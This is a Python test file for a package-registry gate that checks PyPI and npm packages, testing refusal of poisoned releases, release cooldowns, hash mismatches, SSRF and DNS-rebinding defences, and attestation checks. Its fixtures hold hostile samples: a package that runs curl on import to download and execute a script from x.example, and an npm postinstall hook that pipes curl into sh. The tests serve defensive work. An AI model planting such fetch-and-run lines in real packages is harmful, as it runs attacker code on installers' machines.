"""Package indexes with the real installers: what they take, what they are refused, and that they read why."""

import base64
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import urllib.error
import urllib.request
from datetime import UTC, datetime, timedelta

import pytest

from tests.corpus import packages
from tests.registry import NOWHERE, running
from tests.servers import Web
from tests.servers import serve as serve_files
from weighbridge.provenance import attestation, bundle, keys
from weighbridge.provenance.digest import FileDigest
from weighbridge.provenance.predicates import PUBLISH

GOOD = {"ranker/__init__.py": packages.PLAIN_TEXT}
EVIL = {
    "ranker/__init__.py": "import os\ndef _check():\n    os.system('curl -s https://x.example/a -o /tmp/a && python3 /tmp/a &')\n_check()\n"
}
LONG_AGO = "2024-01-01T00:00:00Z"


def released(files, version, released_at=LONG_AGO):
    """{file name: (bytes, version, time)} of a package of the corpus, under another version."""
    ((name, data),) = files.items()
    return {name.replace("1.0", version, 1): (data, version, released_at)}


def wheel(files, version):
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member, text in files.items():
            archive.writestr(member, text)
        folder = f"ranker-{version}.dist-info"
        archive.writestr(
            f"{folder}/METADATA", f"Metadata-Version: 2.1\nName: ranker\nVersion: {version}\nRequires-Python: >=3.8\n"
        )
        archive.writestr(f"{folder}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        rows = []
        for info in archive.infolist():
            digest = base64.urlsafe_b64encode(hashlib.sha256(archive.read(info)).digest()).rstrip(b"=").decode()
            rows.append(f"{info.filename},sha256={digest},{info.file_size}")
        archive.writestr(f"{folder}/RECORD", "\n".join([*rows, f"{folder}/RECORD,,"]) + "\n")
    return f"ranker-{version}-py3-none-any.whl", buffer.getvalue()


def python_index(files, *, times=None):
    """An index as PyPI is one; `files` maps versions to the files of a wheel."""
    made = dict(wheel(content, version) for version, content in files.items())
    web = Web()

    def route(handler):
        path = handler.path.partition("?")[0]
        if path == "/simple/ranker/":
            rows = [
                {
                    "filename": name, "url": f"/files/{name}", "hashes": {"sha256": hashlib.sha256(data).hexdigest()}, "size": len(data),
                    "upload-time": (times or {}).get(name.split("-")[1], LONG_AGO), "requires-python": ">=3.8", "yanked": False,
                    "provenance": f"/attested/{name}" if name in web.attested else None,
                }
                for name, data in made.items()
            ]  # fmt: skip
            handler.reply(200, json.dumps({"meta": {"api-version": "1.1"}, "name": "ranker", "files": rows}).encode())
            return True
        if path.startswith("/files/"):
            handler.reply(200, web.sent.get(path[7:], made[path[7:]]))
            return True
        if path.startswith("/attested/"):
            handler.reply(200, web.attested[path[10:]])
            return True
        return False

    web.route, web.made, web.sent, web.attested = route, made, {}, {}
    return web


@pytest.fixture
def gate(tmp_path, request):
    """A registry before an index; the marker says which versions there are and what was settled."""
    asked = request.node.get_closest_marker("index")
    files, terms = asked.args[0], dict(asked.kwargs)
    web = python_index(files, times=terms.pop("times", None))
    with (
        serve_files(web) as address,
        running(tmp_path, upstreams={**NOWHERE, "pypi": f"{address}/simple"}, patience=25.0, **terms) as registry,
    ):
        registry.web, registry.place = web, tmp_path
        registry.index = registry.address.replace("://", f"://x:{registry.token('ruth', 'reader')}@") + "/pypi/simple/"
        yield registry


def pip(gate, *wanted):
    target = gate.place / "taken"
    command = [
        sys.executable,
        "-m",
        "pip",
        "download",
        "--no-deps",
        "--no-cache-dir",
        "--disable-pip-version-check",
        "--no-build-isolation",
        "--index-url",
        gate.index,
        "--dest",
        str(target),
        *wanted,
    ]
    environment = {name: value for name, value in os.environ.items() if not name.startswith("PIP_")}
    done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=120, check=False)
    return sorted(os.listdir(target)) if target.exists() else [], done.stdout + done.stderr


def uv(gate, *wanted):
    target = gate.place / "installed"
    command = [
        sys.executable,
        "-m",
        "uv",
        "pip",
        "install",
        "--no-deps",
        "--no-cache",
        "--no-config",
        "--index-url",
        gate.index,
        "--target",
        str(target),
        *wanted,
    ]
    done = subprocess.run(
        command, env={**os.environ, "UV_HTTP_TIMEOUT": "60"}, capture_output=True, text=True, timeout=120, check=False
    )
    return sorted(one for one in os.listdir(target) if "dist-info" in one) if target.exists() else [], " ".join(
        (done.stdout + done.stderr).split()
    )


BOTH = pytest.mark.parametrize("installer", [pip, uv])


@BOTH
@pytest.mark.index({"1.0": GOOD})
def test_a_clean_package_is_inspected_and_installed(gate, installer):
    taken, said = installer(gate, "ranker")

    assert any("ranker-1.0" in name for name in taken), said
    assert gate.client().cases(kind="pypi")[0].state == "approved"


@BOTH
@pytest.mark.index({"1.0": EVIL})
def test_a_poisoned_package_is_refused_and_the_reason_is_printed(gate, installer):
    taken, said = installer(gate, "ranker==1.0")

    assert taken == []
    assert "was rejected (case 1)" in said, said
    assert "PKG-" in said or "COD-" in said


@BOTH
@pytest.mark.index({"1.0": GOOD, "1.1": EVIL})
def test_after_a_refusal_a_range_takes_the_older_clean_version(gate, installer):
    installer(gate, "ranker==1.1")

    taken, said = installer(gate, "ranker")

    assert any("ranker-1.0" in name for name in taken), said
    assert not any("ranker-1.1" in name for name in taken)


@BOTH
@pytest.mark.index(
    {"1.0": GOOD, "2.0": GOOD}, cooldown_days=7, times={"2.0": (datetime.now(UTC) - timedelta(days=2)).isoformat()}
)
def test_a_release_that_is_too_young_is_passed_over(gate, installer):
    taken, said = installer(gate, "ranker")
    assert any("ranker-1.0" in name for name in taken), said

    _, said = installer(gate, "ranker==2.0")
    assert "releases wait 7 days" in said


@BOTH
@pytest.mark.index({"1.0": GOOD}, internal=["ranker"])
def test_an_internal_name_is_never_asked_for_outside(gate, installer):
    taken, _ = installer(gate, "ranker")

    assert taken == []
    assert gate.web.log == []


@BOTH
@pytest.mark.index({"1.0": GOOD, "1.1": GOOD}, on_demand=False)
def test_where_nothing_is_inspected_on_demand_only_what_was_approved_is_seen(gate, installer):
    case = gate.client("ruth").request("pypi", "ranker", "1.0")
    assert gate.settled(case.id) == "approved"

    taken, said = installer(gate, "ranker")

    assert any("ranker-1.0" in name for name in taken), said


@pytest.mark.index({"1.0": GOOD})
def test_bytes_that_are_not_those_of_the_index_never_get_in(gate):
    name, data = next(iter(gate.web.made.items()))
    gate.web.sent[name] = data + b"x"

    taken, said = pip(gate, "ranker")

    assert taken == []
    assert "could not be inspected" in said
    assert gate.client().cases()[0].state == "failed"


@pytest.mark.index({"1.0": GOOD})
def test_an_index_that_leads_into_the_own_network_is_not_followed(gate):
    inside = Web()
    inside.route = lambda handler: handler.reply(200, b"secret") or True
    with serve_files(inside) as address:
        known = gate.web.route

        def leading(handler):
            if handler.path.startswith("/simple/"):
                ((name, data),) = gate.web.made.items()
                row = {
                    "filename": name,
                    "url": f"{address}/latest/meta-data",
                    "hashes": {"sha256": hashlib.sha256(data).hexdigest()},
                    "upload-time": LONG_AGO,
                }
                handler.reply(200, json.dumps({"meta": {}, "name": "ranker", "files": [row]}).encode())
                return True
            return known(handler)

        gate.web.route = leading
        taken, _ = pip(gate, "ranker")
    assert taken == []
    assert inside.log == []
    assert "private address" in gate.client().cases()[0].because


@pytest.mark.index({"1.0": GOOD})
def test_a_name_that_is_public_when_it_is_checked_and_private_when_it_is_used_leads_nowhere_inside(gate, monkeypatch):
    inside, known, answers, connected = Web(), gate.web.route, [], []
    inside.route = lambda handler: handler.reply(200, b"secret") or True
    resolve, connect = socket.getaddrinfo, socket.create_connection

    def rebinding(host, port, *rest, **more):
        if host != "rebind.example":
            return resolve(host, port, *rest, **more)
        # Public for whoever asks first, the machine itself for whoever asks again.
        answers.append("127.0.0.1" if answers else "93.184.216.34")
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (answers[-1], port))]

    def watched(address, *rest, **more):
        connected.append(address[0])
        if address[0] != "127.0.0.1":
            raise OSError("no way out of a test")
        return connect(address, *rest, **more)

    with serve_files(inside) as address:
        port = address.rpartition(":")[2]

        def leading(handler):
            if not handler.path.startswith("/simple/"):
                return known(handler)
            ((name, data),) = gate.web.made.items()
            row = {
                "filename": name, "url": f"http://rebind.example:{port}/latest/meta-data", "upload-time": LONG_AGO,
                "hashes": {"sha256": hashlib.sha256(data).hexdigest()},
            }  # fmt: skip
            handler.reply(200, json.dumps({"meta": {}, "name": "ranker", "files": [row]}).encode())
            return True

        gate.web.route = leading
        client = gate.client("ruth", "reader")
        monkeypatch.setattr(socket, "getaddrinfo", rebinding)
        monkeypatch.setattr(socket, "create_connection", watched)
        state = gate.settled(client.request("pypi", "ranker", "1.0").id)

    assert state == "failed"
    assert "93.184.216.34" in connected
    assert "127.0.0.1" in answers, "it was asked again, so that the second answer could have been used"
    assert "127.0.0.1" not in connected
    assert inside.log == []


def read(gate, path, **headers):
    token = base64.b64encode(f"x:{gate.token('ruth', 'reader')}".encode()).decode()
    request = urllib.request.Request(f"{gate.address}{path}", headers={"Authorization": f"Basic {token}", **headers})
    with urllib.request.urlopen(request) as answer:
        return answer.geturl(), answer.headers, answer.read()


@pytest.mark.index({"1.0": GOOD})
def test_the_page_is_json_or_html_as_it_is_asked_for(gate):
    case = gate.client("ruth").request("pypi", "ranker", "1.0")
    gate.settled(case.id)

    url, headers, body = read(gate, "/pypi/simple/Ranker", Accept="application/vnd.pypi.simple.v1+json")
    page = json.loads(body)
    assert url.endswith("/pypi/simple/ranker/")
    assert headers["Content-Type"] == "application/vnd.pypi.simple.v1+json"
    assert page["meta"] == {"api-version": "1.4"}
    (row,) = page["files"]
    assert row["hashes"]["sha256"] == hashlib.sha256(gate.web.made[row["filename"]]).hexdigest()
    assert row["url"].startswith(gate.address)
    assert row["requires-python"] == ">=3.8"
    _, _, metadata = read(gate, row["url"].removeprefix(gate.address) + ".metadata")
    assert hashlib.sha256(metadata).hexdigest() == row["core-metadata"]["sha256"]

    _, headers, body = read(gate, "/pypi/simple/ranker/", Accept="text/html")
    assert headers["Content-Type"].startswith("text/html")
    assert f'data-core-metadata="sha256={row["core-metadata"]["sha256"]}"'.encode() in body
    assert b"#sha256=" in body
    assert json.loads(read(gate, "/pypi/simple/", Accept="application/vnd.pypi.simple.v1+json")[2])["projects"] == [
        {"name": "ranker"}
    ]


# --- attestations (PEP 740)


def attested(data, key):
    """What an index has of attestations of a file, signed by a key."""
    about = [FileDigest(name="ranker", size=len(data), sha256=hashlib.sha256(data).hexdigest())]
    signed = bundle.seal(attestation.statement(about, PUBLISH, {}), bundle.IN_TOTO, keys.load_private(key))
    one = {"publisher": {"kind": "GitHub"}, "attestations": [json.loads(signed)]}
    return json.dumps({"version": 1, "attestation_bundles": [one]}).encode()


@pytest.fixture
def signer(tmp_path):
    path = str(tmp_path / "signer")
    keys.new(path, days=30, now=datetime.now(UTC))
    return path


def page(gate):
    _, _, body = read(gate, "/pypi/simple/ranker/", Accept="application/vnd.pypi.simple.v1+json")
    return json.loads(body)["files"][0]


@pytest.mark.index({"1.0": GOOD})
def test_attestations_of_the_index_are_passed_on_beside_the_file(gate, signer):
    ((name, data),) = gate.web.made.items()
    gate.web.attested[name] = attested(data, signer)
    assert gate.settled(gate.client("ruth").request("pypi", "ranker", "1.0").id) == "approved"

    address = page(gate)["provenance"]

    assert address == f"{gate.address}/pypi/integrity/ranker/1.0/{name}/provenance"
    _, headers, body = read(gate, address.removeprefix(gate.address))
    assert headers["Content-Type"] == "application/vnd.pypi.integrity.v1+json"
    assert body == gate.web.attested[name]
    _, _, html = read(gate, "/pypi/simple/ranker/", Accept="text/html")
    assert f'data-provenance="{address}"'.encode() in html


@pytest.mark.index({"1.0": GOOD})
def test_attestations_about_other_bytes_let_nothing_in(gate, signer):
    ((name, _),) = gate.web.made.items()
    gate.web.attested[name] = attested(b"another file", signer)
    case = gate.client("ruth").request("pypi", "ranker", "1.0").id

    assert gate.settled(case) == "failed"
    assert "about other bytes" in gate.client().case(case).because
    assert "provenance" not in page(gate)


@pytest.mark.index({"1.0": GOOD})
def test_a_file_without_attestations_has_no_address_for_them(gate):
    assert gate.settled(gate.client("ruth").request("pypi", "ranker", "1.0").id) == "approved"

    assert "provenance" not in page(gate)
    ((name, _),) = gate.web.made.items()
    with pytest.raises(urllib.error.HTTPError, match="404"):
        read(gate, f"/pypi/integrity/ranker/1.0/{name}/provenance")


@pytest.mark.parametrize(("by", "state"), [("signer", "approved"), ("stranger", "failed"), ("", "needs review")])
def test_where_policy_wants_a_package_attested_the_gate_asks_who_signed(tmp_path, signer, by, state):
    stranger = str(tmp_path / "stranger")
    keys.new(stranger, days=30, now=datetime.now(UTC))
    web = python_index({"1.0": GOOD})
    ((name, data),) = web.made.items()
    if by:
        web.attested[name] = attested(data, {"signer": signer, "stranger": stranger}[by])
    (tmp_path / "registry").mkdir()
    (tmp_path / "registry/weighbridge.toml").write_text(
        f'[dependencies]\nattested = ["rank*"]\n[provenance]\nkeys = ["{signer}.pub"]\n'
    )
    with (
        serve_files(web) as address,
        running(tmp_path, upstreams={**NOWHERE, "pypi": f"{address}/simple"}) as registry,
    ):
        assert registry.settled(registry.client("ruth", "reader").request("pypi", "ranker", "1.0").id) == state


# --- npm

MANIFEST = {"dependencies": {}, "bin": {}, "gitHead": "x", "_npmUser": {"name": "ada"}}


def node_index(versions):
    made = {}
    for version, scripts in versions.items():
        ((_, data),) = packages.npm({"index.js": "module.exports = 1\n"}, scripts).items()
        made[version] = repacked(data, version)
    web = Web()

    def route(handler):
        path = handler.path
        if path == "/ranker":
            rows = {
                version: {
                    "name": "ranker", "version": version, **MANIFEST,
                    "dist": {
                        "tarball": f"http://{handler.headers['Host']}/ranker/-/ranker-{version}.tgz",
                        "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode(),
                        "shasum": hashlib.sha1(data).hexdigest(),
                    },
                }
                for version, data in made.items()
            }  # fmt: skip
            latest = list(made)[-1]
            body = {
                "name": "ranker",
                "dist-tags": {"latest": latest},
                "versions": rows,
                "time": dict.fromkeys(made, LONG_AGO),
            }
            handler.reply(200, json.dumps(body).encode())
            return True
        if path.startswith("/ranker/-/"):
            handler.reply(200, made[path.rpartition("ranker-")[2].removesuffix(".tgz")])
            return True
        return False

    web.route = route
    return web


def repacked(data, version):
    import io
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(data)) as source, tarfile.open(fileobj=out, mode="w:gz") as target:
        for info in source:
            content = source.extractfile(info).read()
            if info.name.endswith("package.json"):
                content = json.dumps({**json.loads(content), "version": version}).encode()
            info.size = len(content)
            target.addfile(info, io.BytesIO(content))
    return out.getvalue()


def npm(registry, place, *wanted):
    folder = place / "node"
    folder.mkdir(exist_ok=True)
    host = registry.address.removeprefix("http:")
    (folder / ".npmrc").write_text(
        f"registry={registry.address}/npm/\n{host}/npm/:_authToken={registry.token('ruth', 'reader')}\n"
    )
    (folder / "package.json").write_text('{"name": "x", "version": "1.0.0"}')
    done = subprocess.run(
        ["npm", "install", "--ignore-scripts", "--no-audit", "--no-fund", "--fetch-retries=0", "--cache", str(place / "npm-cache"), *wanted],
        cwd=folder, capture_output=True, text=True, timeout=120, check=False, env={**os.environ, "HOME": str(place)},
    )  # fmt: skip
    manifest = folder / "node_modules/ranker/package.json"
    return json.loads(manifest.read_text())["version"] if manifest.exists() else "", done.stdout + done.stderr


@pytest.mark.skipif(not shutil.which("npm"), reason="npm is not installed")
def test_npm_takes_the_clean_version_and_prints_why_the_other_is_refused(tmp_path):
    web = node_index({"1.0.0": None, "1.1.0": {"postinstall": "curl -s https://x.example/a | sh"}})
    with (
        serve_files(web) as address,
        running(tmp_path, upstreams={**NOWHERE, "npm": address}, patience=25.0) as registry,
    ):
        taken, said = npm(registry, tmp_path, "ranker@1.1.0")
        assert taken == ""
        assert "was rejected (case 1)" in said, said

        taken, said = npm(registry, tmp_path, "ranker")
        assert taken == "1.0.0", said
